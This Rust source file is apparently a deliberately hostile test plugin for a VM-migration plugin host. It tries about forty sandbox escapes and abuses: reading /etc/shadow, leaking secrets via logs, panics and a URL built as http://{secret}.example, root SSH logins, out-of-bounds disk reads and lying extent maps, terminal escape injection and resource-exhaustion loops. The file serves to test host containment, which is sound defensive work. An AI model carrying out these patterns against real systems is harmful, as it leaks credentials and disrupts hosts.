//! Forty hostile sources in one: `attack` of its options says which. Each tells what it got as the message of a
//! finding; what the host answered instead is passed on as it is.

mod raw;

use gyre_plugin::bindings::gyre::host::{log, secrets, ssh};
use gyre_plugin::source::*;

/// More than any of these attacks is given.
const MANY: usize = 1_000_000;
const READ_BYTES: u32 = 4096;
/// What the host counts for two texts, at least.
const PAIR_BYTES: usize = 48;
/// `token=ab1&`, three times, in base64.
const PACKED_NAMES: &str = "dG9rZW49YWIxJnRva2VuPWFiMSZ0b2tlbj1hYjEm";
const LARGE_CALLS: usize = 2;
const RACE_ROUNDS: usize = 3_000;

struct Hostile;

#[derive(serde::Deserialize, schemars::JsonSchema)]
#[serde(deny_unknown_fields)]
struct Options {
    /// What it tries.
    attack: String,
    /// The path, URL, host or secret that it tries it on.
    #[serde(default)]
    on: String,
    /// What else the attack needs.
    #[serde(default)]
    with: String,
}

impl Source for Hostile {
    const ABOUT: About = about!("hostile-source", "Tries what a source must not.").config::<Options>();

    fn check(config: Config, _: Option<&str>) -> Result<Vec<Finding>> {
        let options: Options = config.parse()?;
        let finding =
            |message| Finding { blocking: false, path: options.attack.clone(), message, remedy: None };
        if options.attack == "many-findings" {
            return Ok((0..10_000).map(|_| finding(String::new())).collect());
        }
        Ok(vec![finding(attack(&options.attack, &options.on, &options.with)?)])
    }

    fn list_vms(_: Config, _: Option<&str>, _: Option<&str>) -> Result<VmPage> {
        Ok(VmPage { vms: Vec::new(), next: None })
    }

    fn get_vm(config: Config, _: &str) -> Result<VmSpec> {
        let options: Options = config.parse()?;
        let mut vm = machine();
        match options.attack.as_str() {
            "vm-secret" => vm.hostname = Some(revealed(&options.on)?),
            "vm-twins" => vm.disks = vec![disk("a"), disk("a")],
            _ => vm.disks = (0..1_000).map(|n| disk(&n.to_string())).collect(),
        }
        Ok(vm)
    }

    fn power_off(_: &Step, _: &str) -> Result<Outcome> {
        Ok(Outcome::Wait(Wait { state: "for ever".into(), after_ms: u32::MAX }))
    }

    fn ensure_snapshot(step: &Step, _: &VmSpec, _: Option<&str>) -> Result<Outcome> {
        let options: Options = step.config()?;
        let secret = || Ok(format!("{{\"password\":\"{}\"}}", revealed(&options.on)?));
        let resume = |state| Outcome::Wait(Wait { state, after_ms: 0 });
        Ok(match options.attack.as_str() {
            "state-secret" => Outcome::Done(secret()?),
            "state-binary" => Outcome::Done(raw::no_text()),
            "resume-secret" => resume(secret()?),
            "resume-large" => resume("x".repeat(2 << 20)),
            "resume-binary" => resume(raw::no_text()),
            _ => Outcome::Done("x".repeat(2 << 20)),
        })
    }

    fn release_snapshot(_: &Step, _: &str) -> Result<Outcome> {
        Ok(Outcome::nothing())
    }

    fn open_disk(config: Config, claim: &str, path: &str) -> Result<Opened> {
        let options: Options = config.parse()?;
        let held = if options.on.is_empty() { None } else { Some(Disk::open(path)?) };
        Ok(Opened::reader(Claims { claim: claim.into(), held }))
    }
}

/// A disk of 1 MiB whose map lies.
struct Claims {
    claim: String,
    held: Option<Disk>,
}

impl Reader for Claims {
    fn size(&self) -> u64 {
        1 << 20
    }

    fn extents(&mut self, _: Option<&str>, offset: u64, length: u64) -> Result<Vec<Extent>> {
        let own = self.held.as_ref().map_or(0, Disk::id);
        let stored = |disk, offset| ExtentKind::Stored(Stored { disk, offset });
        let kind = match self.claim.as_str() {
            "outside" => stored(own, 1 << 30),
            "overflow" => stored(own, u64::MAX - 1),
            "other" => stored(own.wrapping_add(1), 0),
            _ => ExtentKind::Packed(Packed {
                disk: own,
                offset: u64::MAX,
                length: u64::MAX,
                codec: "zstd".into(),
                skip: u32::MAX,
            }),
        };
        Ok(vec![Extent { offset, length, kind }])
    }

    fn read(&mut self, _: u64, _: u32) -> Result<Vec<u8>> {
        #[allow(clippy::panic)] // what this guest is for
        {
            panic!("on purpose")
        }
    }
}

fn attack(name: &str, on: &str, with: &str) -> Result<String> {
    match name {
        "open" => read(&Disk::open(on)?),
        "open-to-write" => Disk::open_with(on, Access::WRITE).map(|_| "opened".into()),
        "write-anyway" => {
            let disk = Disk::open(on)?;
            disk.zero(0, 1).or(disk.write(0, b"x")).map(|()| "wrote".into())
        }
        "read-past" => Disk::open(on)?.read(0, u32::MAX).map(|bytes| bytes.len().to_string()),
        "map-past" => Disk::open(on)?.extents(u64::MAX - 1, u64::MAX).map(|map| map.len().to_string()),
        "race" => race(on),
        "visit" => answer(&Http::open(on, None)?.send(&Request::get(with))?),
        "method" => answer(&authorized(on)?.send(&Request::new(with, ""))?),
        "header" => {
            let (header, value) = with.split_once(": ").unwrap_or_default();
            answer(&Http::open(on, None)?.send(&Request::get("").header(header, value))?)
        }
        "send-secret" => answer(&authorized(on)?.send(&marked())?),
        "login" => login(on, with),
        "secret" => revealed(on),
        "key" => generate(on),
        "told" => tell(with, &revealed(on)?),
        "large" => large(on, with),
        "calls" => {
            let times = (0..MANY).map(|_| clock::elapsed_ms()).max();
            Ok(format!("{} calls", times.map_or(0, |_| MANY)))
        }
        _ => bomb(name, on),
    }
}

fn read(disk: &Disk) -> Result<String> {
    Ok(String::from_utf8_lossy(&disk.read(0, READ_BYTES)?).into_owned())
}

/// Everything that a name led to, while somebody else changes what it is the name of.
fn race(path: &str) -> Result<String> {
    let mut got = std::collections::BTreeSet::new();
    for _ in 0..RACE_ROUNDS {
        got.insert(Disk::open(path).and_then(|disk| read(&disk)).unwrap_or_else(|error| error.code));
    }
    Ok(got.into_iter().collect::<Vec<_>>().join(" "))
}

fn answer(response: &Response) -> Result<String> {
    Ok(format!("{} {}", response.status, response.text()))
}

fn authorized(url: &str) -> Result<Http> {
    let (http, secret) = (Http::open(url, None)?, Secret::open("own")?);
    http.authorize("x-auth-token", &secret)?;
    http.substitute("MARKER-0001", &secret)?;
    Ok(http)
}

fn marked() -> Request {
    Request::post("").bytes(b"MARKER-0001".to_vec())
}

fn login(host: &str, key: &str) -> Result<String> {
    let secret = secrets::Secret::open("own")?;
    let host_key = (!key.is_empty()).then(|| key.to_owned());
    let address = ssh::Address { host: host.into(), port: 22, user: "root".into(), host_key };
    ssh::Session::open(&address, &ssh::Credential::Password(&secret)).map(|_| "logged in".into())
}

fn revealed(name: &str) -> Result<String> {
    Ok(String::from_utf8_lossy(&Secret::open(name)?.reveal()?).into_owned())
}

fn generate(name: &str) -> Result<String> {
    secrets::Secret::generate_ssh_key(name)
}

/// Tells a secret by every way out that there is.
fn tell(way: &str, secret: &str) -> Result<String> {
    match way {
        "log" => log!(warn, "it is {}", secret; "password" => secret),
        "progress" => progress::report(secret, 0, None),
        "error" => return Err(Error::other(secret, format!("it is {secret}"))),
        "refusal" => drop(Http::open(&format!("http://{secret}.example"), None)),
        "panic" => {
            #[allow(clippy::panic)] // what this guest is for
            {
                panic!("it is {secret}")
            }
        }
        _ => return Ok(secret.to_owned()),
    }
    Ok("told".into())
}

fn bomb(name: &str, on: &str) -> Result<String> {
    match name {
        "disks" => {
            (0..MANY).map(|_| Disk::open(on)).collect::<Result<Vec<_>>>().map(|all| all.len().to_string())
        }
        "endpoints" => (0..MANY)
            .map(|_| Http::open(on, None))
            .collect::<Result<Vec<_>>>()
            .map(|all| all.len().to_string()),
        "refusals" => {
            (0..MANY).for_each(|_| drop(Disk::open("/etc/shadow")));
            Ok("asked".into())
        }
        "lines" => {
            (0..MANY).for_each(|line| log!(warn, "line {}", line));
            Ok("logged".into())
        }
        "long-line" => {
            log!(warn, "{}", "x".repeat(48 << 20));
            Ok("logged".into())
        }
        "escapes" => {
            let escapes = "\u{1b}[2J\u{1b}]0;owned\u{7}\r\n\u{9b}31m\u{202e}gnorw\u{8}";
            log!(warn, "{}", escapes; "key" => escapes);
            progress::report(escapes, 0, None);
            Err(Error::other("a.b", escapes))
        }
        "answer" => Ok("x".repeat(48 << 20)),
        "spin" => spin(),
        "sleep" => loop {
            clock::sleep_ms(u32::MAX);
        },
        _ => raw::attack(name),
    }
}

/// Calls of so many MiB, in the shapes of which most is made on the way into a recording.
fn large(shape: &str, mebibytes: &str) -> Result<String> {
    let bytes = mebibytes.parse::<usize>().or_invalid("guest.attack", || "no size".into())? << 20;
    let pairs = || vec![(String::new(), String::new()); bytes / PAIR_BYTES];
    for _ in 0..LARGE_CALLS {
        match shape {
            "signs" => log::write(log::Level::Debug, &"\u{1}".repeat(bytes), &[]),
            "packed" => log::write(log::Level::Debug, &"QUFB".repeat(bytes / 4), &[]),
            "names" => log::write(log::Level::Debug, &PACKED_NAMES.repeat(bytes / PACKED_NAMES.len()), &[]),
            _ => log::write(log::Level::Debug, "", &pairs()),
        }
    }
    Ok("said".into())
}

fn spin() -> ! {
    let mut turns = 0_u64;
    loop {
        turns = std::hint::black_box(turns.wrapping_add(1));
    }
}

fn machine() -> VmSpec {
    VmSpec {
        id: "1".into(),
        name: "n".into(),
        hostname: None,
        vcpus: 1,
        cores_per_socket: None,
        memory_mib: 512,
        firmware: Firmware::Bios,
        secure_boot: false,
        tpm: false,
        os_type: OsType::Linux,
        os_hint: None,
        host: None,
        public_address: None,
        disks: Vec::new(),
        nics: Vec::new(),
    }
}

fn disk(id: &str) -> DiskSpec {
    DiskSpec { id: id.into(), size: 1, position: 0, bus: "scsi".into(), backend: None, shareable: false }
}

gyre_plugin::export!(source: Hostile);
